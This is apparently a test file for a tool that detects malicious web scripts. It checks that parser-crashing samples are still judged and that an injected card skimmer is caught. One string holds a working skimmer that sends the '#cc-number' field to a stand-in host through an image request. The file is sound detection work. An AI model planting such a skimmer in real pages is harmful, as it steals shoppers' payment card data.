import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { changeVerdicts, compareScripts } from '@tillwatch/core/changes'
import { judgeScript, LOOKED_AT_MAX } from '@tillwatch/core/detection'
import { nothingDeclared } from '@tillwatch/core/inventory'
import { atDepth } from '@tillwatch/testbed/depth'
import { hostileFiles } from '@tillwatch/testbed/hostile-files'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { judgeFiles } from '../../src/inspect/run.ts'

const folder = mkdtempSync(join(tmpdir(), 'tillwatch-hostile-'))
/** Each takes a second or more. One of each kind stays in the short run. */
const longest = [
  ...['many-closures.js', 'endless-generators.js', 'rotations.js', 'sorted-lists.js', 'endless-loop.js', 'deep-labels.js'],
  ...['line-50-mb-of-numbers.js', 'line-7-mb-of-numbers.js', 'line-7-mb-of-backslashes.js', 'many-functions.js', 'many-names.js'],
]
const names = Object.keys(hostileFiles).filter((name) => atDepth(!longest.includes(name), true))
const at = (name: string) => join(folder, name)
const textOf = (name: string) => hostileFiles[name]!().toString('utf8')
const thief = `\n;document.querySelector('#cc-number').onchange = function () { new Image().src = 'https://collect.stranger-shop.example/?d=' + this.value }\n`
/** Longer ones say nothing else here, and take long. */
const comparedMax = 500_000

beforeAll(() => {
  for (const name of names) writeFileSync(at(name), hostileFiles[name]!())
})
afterAll(() => rmSync(folder, { recursive: true, force: true }))

describe('files that were made to crash or stall their reader', () => {
  it('are each judged, in a process that survives them', async () => {
    const judged = await judgeFiles(names.map(at), {
      timeoutMs: 120_000,
      signal: new AbortController().signal,
      detonate: null,
      page: { host: null, declared: nothingDeclared },
      keep: (file) => file,
      onJudged: () => undefined,
    })
    // Of what is too long to be looked at, nothing is concluded.
    const tooLong = judged.filter((file) => file.outcome === 'judged' && file.missing.some(({ code }) => code === 'too-long'))
    expect(tooLong.map(({ path }) => path)).toEqual(names.filter((name) => textOf(name).length > LOOKED_AT_MAX).map(at))
    for (const one of tooLong) expect(one).toMatchObject({ verdict: 'inconclusive', ended: false })
    expect(judged.map(({ path }) => path)).toEqual(names.map(at))
    const verdictOf = (name: string) =>
      judged.flatMap((file) => (file.path === at(name) && file.outcome === 'judged' ? [file.verdict] : []))[0]
    for (const thieving of ['prototype-pollution.js', 'prototype-pollution-inside.html', 'regex-bombs-in-flow.js'])
      expect([thieving, verdictOf(thieving)]).toEqual([thieving, 'malicious'])
    expect(verdictOf('fooled-reader.js')).toBe('benign')
  })

  it.each(names.filter((name) => textOf(name).length < comparedMax))('do not hide a thief that is added to %s', (name) => {
    const text = textOf(name)
    for (const later of [text + thief, thief + text]) {
      const { verdict } = compareScripts(text, later, { judge: judgeScript })
      expect(changeVerdicts.slice(changeVerdicts.indexOf('capability'))).toContain(verdict)
    }
    expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false)
  })
})
